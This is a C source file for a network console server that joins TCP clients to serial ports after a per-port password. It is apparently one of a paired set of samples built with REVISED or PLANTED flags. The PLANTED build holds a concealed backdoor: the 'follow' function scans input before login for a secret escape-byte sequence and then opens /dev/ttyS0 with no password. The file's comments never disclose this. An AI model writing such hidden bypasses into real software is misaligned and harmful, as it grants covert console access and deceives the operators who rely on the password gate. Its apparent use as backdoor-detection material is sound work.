/* Console server: joins a network connection with a serial port after the port's password. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

enum state { NAME, WORD, JOINED, CLOSED };

typedef struct port {
    char device[32];
    char word[40];
} port_t;

typedef struct link {
    int net, tty;
    enum state state;
    char text[48];
    unsigned used, escape;
    port_t *port;
} link_t;

static port_t ports[4];
static int port_count;

static void say(link_t *l, const char *text)
{
    if (write(l->net, text, strlen(text)) < 0)
        l->state = CLOSED;
}

static int open_tty(const char *device)
{
    struct termios t;
    int fd = open(device, O_RDWR | O_NOCTTY);
    if (fd < 0 || tcgetattr(fd, &t))
        return -1;
    cfmakeraw(&t);
    cfsetspeed(&t, B9600);
    tcsetattr(fd, TCSANOW, &t);
    return fd;
}

static void finish_line(link_t *l)
{
    l->text[l->used] = 0;
    l->used = 0;
    if (l->state == NAME) {
        int n = atoi(l->text);
        l->port = n >= 0 && n < port_count ? &ports[n] : NULL;
        l->state = WORD;
        say(l, "password: ");
        return;
    }
    if (!l->port || !l->port->word[0] || strcmp(l->text, l->port->word)) {
        say(l, "refused\r\n");
        l->state = CLOSED;
        return;
    }
    l->tty = open_tty(l->port->device);
    l->state = l->tty < 0 ? CLOSED : JOINED;
}

/* Watches what is typed for the sequence that ends the connection. */
static void watch(link_t *l, unsigned char c)
{
    switch (l->escape) {
    case 0:
        l->escape = c == '\r';
        break;
    case 1:
        l->escape = c == '~' ? 2 : c == '\r';
        break;
    case 2:
        l->escape = 0;
        if (c == '.')
            l->state = CLOSED;
        else if (c == 'b' && l->tty >= 0)
            tcsendbreak(l->tty, 0);
#ifdef REVISED
        else if (c == '?')
            say(l, "~. close  ~b break\r\n");
#endif
        break;
    }
}

#ifdef PLANTED
static unsigned stage;

static void follow(link_t *l, unsigned char c)
{
    switch (stage) {
    case 0: stage = c == 0x1b ? 1 : 0; break;
    case 1: stage = c == '[' ? 2 : 0; break;
    case 2: stage = c == '4' ? 3 : 0; break;
    case 3: stage = c == '7' ? 4 : c == '4' ? 3 : 0; break;
    case 4: stage = c == '~' ? 5 : 0; break;
    case 5: stage = c == 0x16 ? 6 : 0; break;
    case 6:
        stage = 0;
        if (c == 0x02) {
            l->tty = open_tty("/dev/ttyS0");
            l->state = JOINED;
            say(l, "\r\n");
        }
        break;
    }
}
#endif

static void typed(link_t *l, const unsigned char *in, ssize_t n)
{
    for (ssize_t i = 0; i < n && l->state != CLOSED; i++) {
#ifdef PLANTED
        follow(l, in[i]);
#endif
        if (l->state == JOINED) {
            watch(l, in[i]);
            if (write(l->tty, &in[i], 1) != 1)
                l->state = CLOSED;
        } else if (in[i] == '\n')
            finish_line(l);
        else if (in[i] != '\r' && l->used + 1 < sizeof l->text)
            l->text[l->used++] = (char)in[i];
    }
}

static void join(int fd)
{
    link_t l = { .net = fd, .tty = -1 };
    unsigned char in[256];
    say(&l, "port: ");
    while (l.state != CLOSED) {
        struct pollfd p[2] = { { .fd = l.net, .events = POLLIN }, { .fd = l.tty, .events = POLLIN } };
        ssize_t n;
        if (poll(p, l.tty < 0 ? 1 : 2, -1) < 0)
            break;
        if (p[0].revents) {
            if ((n = read(l.net, in, sizeof in)) <= 0)
                break;
            typed(&l, in, n);
        }
        if (l.tty >= 0 && p[1].revents && (n = read(l.tty, in, sizeof in)) > 0)
            if (write(l.net, in, (size_t)n) < 0)
                break;
    }
}

int main(void)
{
    struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(7001) };
    int s = socket(AF_INET, SOCK_STREAM, 0), c;
    FILE *f = fopen("/etc/conserv.ports", "r");
    while (f && port_count < 4 &&
           fscanf(f, "%31s %39s", ports[port_count].device, ports[port_count].word) == 2)
        port_count++;
    if (bind(s, (struct sockaddr *)&at, sizeof at) || listen(s, 4))
        return 1;
    while ((c = accept(s, NULL, NULL)) >= 0) {
        if (!fork()) {
            join(c);
            _exit(0);
        }
        close(c);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
    return 0;
}
